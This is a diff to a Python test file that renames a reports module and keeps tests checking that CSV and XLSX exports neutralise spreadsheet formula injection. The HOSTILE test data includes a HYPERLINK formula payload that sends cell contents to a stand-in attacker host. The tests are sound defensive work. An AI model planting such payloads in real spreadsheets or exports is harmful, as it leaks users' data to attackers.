@@ -10,7 +10,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from gongkai.core.spreadsheet import csv_safe
-from gongkai.reports import export
+from gongkai.reports import serialization
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&C3,"点击查看原件")',
@@ -38,13 +38,15 @@ def test_the_queue_export_writes_applicant_text_as_text(client, clerk, received_
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_the_report_csv_prefixes_formula_like_values(text):
-    out = export.to_csv([{"file": text, "message": "ok"}], ["file", "message"])
+    out = serialization.to_csv([{"file": text, "message": "ok"}], ["file", "message"])
     value = next(csv.DictReader(io.StringIO(out)))["file"]
     assert value == "'" + text
 
 
 def test_the_report_xlsx_has_no_formula_cells():
-    body = export.to_xlsx({"单元格": (["file", "n"], [{"file": t, "n": 1} for t in HOSTILE])})
+    body = serialization.to_xlsx(
+        {"单元格": (["file", "n"], [{"file": t, "n": 1} for t in HOSTILE])}
+    )
     sheet = load_workbook(io.BytesIO(body)).active
     assert [c.value for c in sheet["A"][1:]] == HOSTILE
     assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
